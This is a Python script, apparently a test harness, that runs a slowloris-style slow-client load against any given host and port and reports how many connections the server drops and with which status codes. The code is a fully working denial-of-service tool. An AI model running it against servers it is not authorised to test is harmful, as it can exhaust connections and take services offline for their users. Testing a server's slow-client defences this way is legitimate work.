#!/usr/bin/env python3
"""Slow clients: open N connections to HOST:PORT. Half of them send a request
head one header line at a time, a line every INTERVAL seconds, and never
finish it (slowloris); the other half connect and send nothing (idle). A
connection the server closes is reopened at once. Runs for DURATION seconds,
then prints, for each kind, how many connections were opened and how many
the server cut off (a 408, or a close).

usage: slowloris.py HOST PORT N DURATION [INTERVAL]
"""
import socket
import sys
import time


def main():
    host, port, n, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 2.0
    end = time.monotonic() + duration
    opened = {"trickling": 0, "idle": 0}
    cut_off = {"trickling": 0, "idle": 0}
    answers = {}
    conns = []  # (kind, socket or None)

    def connect(kind):
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        if kind == "trickling":
            s.send(b"GET /healthz HTTP/1.1\r\nHost: slow\r\n")
        opened[kind] += 1
        return s

    def reopen(kind):
        try:
            return connect(kind)
        except OSError:
            return None

    for i in range(n):
        kind = "trickling" if i % 2 == 0 else "idle"
        conns.append((kind, reopen(kind)))
    while time.monotonic() < end:
        time.sleep(min(interval, max(0.0, end - time.monotonic())))
        for i, (kind, s) in enumerate(conns):
            if s is None:
                conns[i] = (kind, reopen(kind))
                continue
            try:
                # Anything back (a 408, a 503) or a close means the server let go.
                try:
                    got = s.recv(64)
                    status = got.split(b" ")[1].decode() if got.startswith(b"HTTP/") else "closed"
                    answers[status] = answers.get(status, 0) + 1
                    raise OSError("answered")
                except BlockingIOError:
                    pass
                if kind == "trickling":
                    s.send(b"X-Slow: 1\r\n")
            except OSError:
                cut_off[kind] += 1
                s.close()
                conns[i] = (kind, reopen(kind))
    for _, s in conns:
        if s is not None:
            s.close()
    for kind in ("trickling", "idle"):
        print(f"slowloris: {kind}: {opened[kind]} connections opened, {cut_off[kind]} cut off by the server")
    print(f"slowloris: what the cut-off connections got: {dict(sorted(answers.items()))}")


if __name__ == "__main__":
    main()
